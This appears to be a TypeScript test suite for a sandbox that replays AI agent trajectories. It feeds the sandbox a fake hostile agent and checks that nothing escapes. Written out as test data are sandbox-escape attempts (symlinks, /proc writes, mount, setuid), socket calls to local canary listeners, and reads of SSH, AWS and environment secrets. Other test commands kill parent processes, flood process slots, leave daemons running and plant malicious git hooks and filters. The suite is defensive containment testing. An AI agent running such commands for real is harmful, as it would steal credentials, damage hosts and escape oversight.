import assert from 'node:assert/strict';
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { createSocket, type Socket as Datagrams } from 'node:dgram';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Step, Trajectory } from '../../../src/core/trajectory/atif.ts';
import { type ReplayOptions, replay } from '../../../src/node/replay/replayTrajectory.ts';
import { makeSandbox, type Sandbox } from '../git/sandbox.ts';
import { needsSandbox } from './needsSandbox.ts';

/** Everything outside that would see an attack. */
interface Canaries {
  readonly folder: string;
  readonly port: number;
  readonly datagramPort: number;
  readonly bystander: number;
  readonly word: string;
  /** What came over the sockets. */
  readonly heard: string[];
  /** Everything in the folder, as text. */
  readonly seen: () => string;
}

describe('a hostile trajectory', function () {
  this.timeout(120_000);
  let sandbox: Sandbox;
  let repo: string;
  let canaries: Canaries;
  const cleanups: (() => void)[] = [];

  before(async function () {
    await needsSandbox(this);
  });

  beforeEach(async () => {
    sandbox = makeSandbox();
    repo = path.join(sandbox.folder, 'repo');
    mkdirSync(repo);
    sandbox.git(['init', '-q'], repo);
    sandbox.write('repo/a.txt', 'one\n');
    sandbox.git(['add', '-A'], repo);
    sandbox.git(['commit', '-q', '-m', 'base'], repo);
    canaries = await makeCanaries(cleanups);
  });

  afterEach(() => {
    for (const cleanup of cleanups.splice(0).reverse()) cleanup();
    sandbox?.dispose();
  });

  /** Replays commands (or whole calls), and gives what they left in the copy's file `findings` and the verdicts. */
  async function attack(calls: readonly (string | Call)[], more: Partial<ReplayOptions> = {}) {
    let findings = '';
    let files: string[] = [];
    const report = await replay(trajectoryOf(calls), {
      repo,
      base: 'HEAD',
      mode: 'exec',
      map: [{ from: '/testbed', to: '' }],
      ...more,
      atEnd: async (folder) => {
        const file = path.join(folder, 'findings');
        findings = existsSync(file) ? readFileSync(file, 'utf8') : '';
        files = readdirSync(folder);
      },
    });
    return { report, findings, files };
  }

  /** The same without the sandbox, as a proof that the canaries see it. */
  function withoutSandbox(script: string): string {
    const folder = mkdtempSync(path.join(os.tmpdir(), 'tracewright-control-'));
    cleanups.push(() => rmSync(folder, { recursive: true, force: true }));
    const env = { ...process.env, TRACEWRIGHT_CANARY: canaries.word };
    spawnSync('bash', ['-c', script], { cwd: folder, env, timeout: 20_000, stdio: 'ignore' });
    const file = path.join(folder, 'findings');
    return existsSync(file) ? readFileSync(file, 'utf8') : '';
  }

  it('writes nowhere but into its copy', async () => {
    const { folder, word } = canaries;
    const before = canaries.seen();
    const script = `echo gotcha >> ${folder}/victim; echo gotcha > ${folder}/new; ln -f ${folder}/victim hard && echo more >> hard; true`;
    withoutSandbox(script);
    assert.notEqual(canaries.seen(), before, 'the canaries see the script without the sandbox');

    rmSync(path.join(folder, 'new'));
    writeFileSync(path.join(folder, 'victim'), 'untouched\n');
    const clean = canaries.seen();
    const name = `tracewright-${word}`;
    const places = [
      '/tmp',
      '/var/tmp',
      '/etc',
      '/usr/local',
      '/opt',
      '/run',
      '/dev/shm',
      os.homedir(),
      path.dirname(repo),
    ];
    const { findings } = await attack([
      script,
      ...places.map((place) => `echo gotcha > ${place}/${name}; echo done >> findings`),
      `for up in .. ../.. ../../.. ../../../../../..; do echo gotcha > $up/${name}; done; echo gotcha > ~/${name}`,
      `mkdir -p ${folder}; echo gotcha > ${folder}/new`,
      `ln -s ${folder} out; echo gotcha > out/new2; cp -r ${folder} . ; echo done >> findings`,
      'cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern && echo sysctl-written >> findings; true',
      'mknod disk b 8 0 && echo device >> findings; mkdir m; mount -t tmpfs none m && echo mounted >> findings; true',
      `chmod u+s ${folder}/victim && echo mode-written >> findings; rm -rf ${folder}; echo end >> /testbed/findings`,
    ]);
    assert.equal(canaries.seen(), clean);
    for (const place of places) assert.equal(existsSync(path.join(place, name)), false, place);
    assert.match(findings, /^end$/m, 'the script was run');
    assert.doesNotMatch(findings, /written|device|mounted|suid/);
    assert.equal(readFileSync(path.join(repo, 'a.txt'), 'utf8'), 'one\n');
    assert.equal(sandbox.git(['status', '--porcelain'], repo), '');
  });

  it('reaches no server, by TCP, UDP, unix sockets or names', async () => {
    const { folder, port, datagramPort, word } = canaries;
    const script = [
      `exec 9<>/dev/tcp/127.0.0.1/${port} && echo tcp-${word} >&9 && echo tcp >> findings; exec 9>&-`,
      `echo udp-${word} > /dev/udp/127.0.0.1/${datagramPort}`,
      `perl -MSocket -e 'for my $at (@ARGV) { socket(my $s, AF_UNIX, SOCK_STREAM, 0); if (connect($s, pack_sockaddr_un($at =~ s/^@/\\0/r))) { syswrite($s, "unix-${word}\\n"); print "unix $at\\n" } }' ${folder}/socket @tracewright-${word} >> findings`,
    ].join('; ');
    const control = withoutSandbox(script);
    const { heard } = canaries;
    await settle(() => heard.length >= 4);
    const told = [`tcp-${word}`, `udp-${word}`, `unix-${word}`, `unix-${word}`];
    assert.deepEqual(heard.toSorted(), told.toSorted(), 'the canaries hear the script without the sandbox');
    assert.match(control, /tcp/);
    heard.length = 0;

    const { findings } = await attack([
      script,
      'getent hosts example.com >> findings && echo resolved >> findings; true',
      'perl -MSocket -e \'print "vsock\\n" if socket(my $s, 40, SOCK_STREAM, 0)\' >> findings; true',
      'while read -r name rest; do case $name in lo:) ;; *:) echo "interface $name" >> findings ;; esac; done < /proc/net/dev; echo end >> findings',
    ]);
    await settle(() => heard.length > 0, 300);
    assert.deepEqual(heard, []);
    assert.equal(findings.trim(), 'end');
  });

  it('climbs out neither through links that its commands make, nor by its tools', async () => {
    const before = canaries.seen();
    const { folder } = canaries;
    const create = (file: string): Call => ['create_file', { path: file, content: 'gotcha' }];
    const { report } = await attack([
      `ln -s ${folder} link; ln -s ${folder}/victim file; ln -s / root; mkdir d; ln -s ../.. d/up`,
      create('link/new'),
      create('file'),
      create(`root${folder}/new`),
      create('d/up/new'),
      create(`${folder}/new`),
      create('../new'),
      ['str_replace', { path: 'file', old_str: 'untouched', new_str: 'gotcha' }],
      ['move_file', { path: 'a.txt', new_path: 'link/a.txt' }],
      ['delete_file', { path: 'link/victim' }],
      'rm -rf d; ln -s / d; cat a.txt',
      ['delete_file', { path: `d${folder}/victim` }],
    ]);
    assert.equal(canaries.seen(), before);
    assert.equal(existsSync(path.join(path.dirname(repo), 'new')), false);
    assert.ok(report.steps.filter(({ verdict }) => verdict === 'exact').length <= 2, JSON.stringify(report.steps));
  });

  it('sees no secret of the environment, of other processes or of the home folder', async () => {
    const { word, folder } = canaries;
    const script = `{ env; cat /proc/*/environ /proc/self/task/*/environ; cat ${folder}/victim ~/.ssh/* ~/.aws/* ${os.homedir()}/.[a-z]*; ls -a ${os.homedir()} ${os.tmpdir()} ${folder}; } 2>/dev/null > findings; true`;
    assert.match(withoutSandbox(script), new RegExp(`TRACEWRIGHT_CANARY=${word}`));
    process.env.TRACEWRIGHT_CANARY = word;
    try {
      const { findings } = await attack([
        `${script}; for at in /proc/[0-9]*; do tr '\\0' ' ' < $at/cmdline; done >> findings; tr '\\0' ' ' < /proc/$PPID/environ >> findings; { echo; echo end; } >> findings`,
      ]);
      assert.match(findings, /^end$/m);
      assert.ok(!findings.includes(word), findings);
      assert.doesNotMatch(findings, /untouched|mocha|node_modules/);
      const names = findings.split('\n').flatMap((line) => /^([A-Z_a-z]+)=/.exec(line)?.[1] ?? []);
      const known = ['PATH', 'LANG', 'TERM', 'HOME', 'PWD', 'OLDPWD', 'SHLVL', '_'];
      assert.deepEqual(
        names.filter((name) => !known.includes(name)),
        [],
      );
    } finally {
      delete process.env.TRACEWRIGHT_CANARY;
    }
  });

  it('kills nobody, floods nothing, waits for nothing, and leaves nothing running', async () => {
    const { bystander, word } = canaries;
    const started = performance.now();
    const { report, findings } = await attack([
      `kill -9 ${bystander} ${process.pid} ${process.ppid}; echo killed=$? >> findings`,
      `(setsid nohup bash -c 'exec -a daemon-${word} sleep 600' >/dev/null 2>&1 &) ; sleep 0.2; echo daemon >> findings`,
      'for n in $(seq 3000); do sleep 60 & done; wait',
      "printf '\\033]0;gotcha\\007\\033[2J\\033[?1049h'; nosuch$(printf '\\033[31m')",
      "head -c 30000000 /dev/zero | tr '\\0' x",
      'read -r line; cat; read -r other < /dev/tty; echo end >> findings',
      "bash -c 'kill -9 $PPID'; true",
      'kill -9 $PPID',
      'echo alive >> findings',
    ]);
    assert.ok(running(bystander), 'a process outside is still there');
    assert.match(findings, /killed=1/);
    assert.match(findings, /daemon/);
    assert.match(findings, /end/);
    assert.match(findings, /alive/, 'commands go on after the shell and its keeper were killed');
    assert.ok(performance.now() - started < 60_000);
    assert.deepEqual(processesNamed(`daemon-${word}`), []);
    const [, , bomb, escapes, flood] = report.steps;
    assert.equal(bomb?.verdict, 'not-replayable');
    assert.match(bomb?.reason ?? '', /processes/);
    for (const { reason } of report.steps) assert.doesNotMatch(reason, /\p{Cc}/u);
    assert.notEqual(escapes?.verdict, 'exact');
    assert.ok(JSON.stringify(flood).length < 10_000, 'the flood is not in the report');
  });

  it('makes git run nothing when its copy is looked at', async () => {
    const { folder } = canaries;
    const before = canaries.seen();
    const evil = (where: string) =>
      `mkdir -p ${where} && cd ${where} && git init -q . && git config user.email a@example.com && git config user.name a && echo x > x && git add x && git commit -qm x; ` +
      `printf '#!/bin/sh\\ntouch ${folder}/new\\n' > .git/hooks/post-checkout; chmod +x .git/hooks/*; cp .git/hooks/post-checkout .git/hooks/pre-commit; ` +
      `git config core.fsmonitor 'touch ${folder}/new'; git config filter.evil.clean 'touch ${folder}/new'; echo '* filter=evil' > .gitattributes; echo y >> x; cd /testbed`;
    const { report, files } = await attack([
      evil('nested'),
      evil('.'),
      'echo z >> nested/x',
      'echo z >> nested/x; mkfifo pipe; perl -MSocket -e \'socket(my $s, AF_UNIX, SOCK_STREAM, 0); bind($s, pack_sockaddr_un("sock"))\'; echo z > "line\nbreak"; mkdir closed; echo x > closed/x; chmod 0 closed; chmod 4755 a.txt',
    ]);
    assert.equal(canaries.seen(), before);
    assert.ok(files.includes('nested') && files.includes('line\nbreak') && files.includes('closed'));
    assert.ok(!files.includes('pipe') && !files.includes('sock'));
    assert.ok(report.steps.every(({ treeAfter }) => treeAfter !== null));
    assert.equal(new Set(report.steps.map(({ treeAfter }) => treeAfter)).size, 4, 'every step changed the tree');
  });

  it('ends with the process that opened its sandbox, however that one ends', async () => {
    const { word, folder } = canaries;
    const module = path.resolve(import.meta.dirname, '../../../src/node/sandbox/sandbox.ts');
    const script = `const { openShell } = await import(${JSON.stringify(module)}); const shell = await openShell(process.argv[1]); await shell.run({ command: 'exec -a orphan-${word} sleep 600' });`;
    const copy = mkdtempSync(path.join(os.tmpdir(), 'tracewright-orphan-'));
    cleanups.push(() => rmSync(copy, { recursive: true, force: true }));
    const owner = spawn(process.execPath, ['--input-type=module', '-e', script, copy], {
      cwd: folder,
      stdio: 'ignore',
    });
    cleanups.push(() => owner.kill('SIGKILL'));
    await settle(() => processesNamed(`orphan-${word}`).length > 0, 20_000);
    assert.equal(processesNamed(`orphan-${word}`).length, 1, 'it runs while its owner does');
    owner.kill('SIGKILL');
    await settle(() => processesNamed(`orphan-${word}`).length === 0);
    assert.deepEqual(processesNamed(`orphan-${word}`), []);
  });

  it('leaves no folder of its own behind', async () => {
    const ours = () => readdirSync(os.tmpdir()).filter((name) => /^tracewright-(sandbox|copy)-/.test(name));
    const before = new Set(ours());
    await attack(['mkdir -p a/b; chmod 0 a/b a', 'touch x; chmod 0 x; exit 1']);
    assert.deepEqual(
      ours().filter((name) => !before.has(name)),
      [],
    );
  });
});

type Call = readonly [tool: string, given: Readonly<Record<string, unknown>>];

function trajectoryOf(calls: readonly (string | Call)[]): Trajectory {
  const steps = calls.map((call, index): Step => {
    const [name, given] = typeof call === 'string' ? (['run_command', { command: call }] as const) : call;
    const id = `call-${index}`;
    return {
      step_id: index + 1,
      source: 'agent',
      message: 'trust me',
      tool_calls: [{ tool_call_id: id, function_name: name, arguments: given }],
      observation: { results: [{ source_call_id: id, content: 'what it says' }] },
    };
  });
  return { schema_version: 'ATIF-v1.7', agent: { name: 'hostile', version: '1' }, steps };
}

async function makeCanaries(cleanups: (() => void)[]): Promise<Canaries> {
  const folder = mkdtempSync(path.join(os.tmpdir(), 'tracewright-canary-'));
  cleanups.push(() => rmSync(folder, { recursive: true, force: true }));
  writeFileSync(path.join(folder, 'victim'), 'untouched\n');
  const word = path.basename(folder).slice('tracewright-canary-'.length);
  const heard: string[] = [];
  const listen = async (...where: [number, string] | [string]): Promise<net.Server> => {
    const server = net.createServer((socket) =>
      socket.on('data', (data) => heard.push(data.toString().trim())).on('error', () => undefined),
    );
    await new Promise<void>((resolve) =>
      where.length === 2 ? server.listen(where[0], where[1], resolve) : server.listen(where[0], resolve),
    );
    cleanups.push(() => server.close());
    return server;
  };
  const tcp = await listen(0, '127.0.0.1');
  await listen(path.join(folder, 'socket'));
  await listen(`\0tracewright-${word}`);
  const datagrams = await listenDatagrams((text) => heard.push(text.trim()));
  cleanups.push(() => datagrams.close());
  const bystander: ChildProcess = spawn('sleep', ['600'], { stdio: 'ignore' });
  cleanups.push(() => bystander.kill('SIGKILL'));
  return {
    folder,
    word,
    heard,
    port: (tcp.address() as net.AddressInfo).port,
    datagramPort: datagrams.address().port,
    bystander: bystander.pid ?? 0,
    seen: () => contentsOf(folder),
  };
}

function listenDatagrams(hear: (text: string) => void): Promise<Datagrams> {
  const socket = createSocket('udp4', (data) => hear(data.toString()));
  return new Promise((resolve) => socket.bind(0, '127.0.0.1', () => resolve(socket)));
}

function contentsOf(folder: string): string {
  const lines = readdirSync(folder)
    .sort()
    .map((name) => {
      const stat = statSync(path.join(folder, name));
      const text = stat.isFile() ? readFileSync(path.join(folder, name), 'utf8') : '';
      return [name, stat.mode, stat.size, stat.mtimeMs, stat.nlink, text].join(' ');
    });
  return [`${statSync(folder).mode} ${statSync(folder).mtimeMs}`, ...lines].join('\n');
}

function running(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

function processesNamed(name: string): string[] {
  return readdirSync('/proc').filter((pid) => {
    try {
      return /^\d+$/.test(pid) && readFileSync(`/proc/${pid}/cmdline`, 'latin1').startsWith(name);
    } catch {
      return false;
    }
  });
}

async function settle(done: () => boolean, ms: number = 5000): Promise<void> {
  const until = performance.now() + ms;
  while (!done() && performance.now() < until) await new Promise((resolve) => setTimeout(resolve, 10));
}
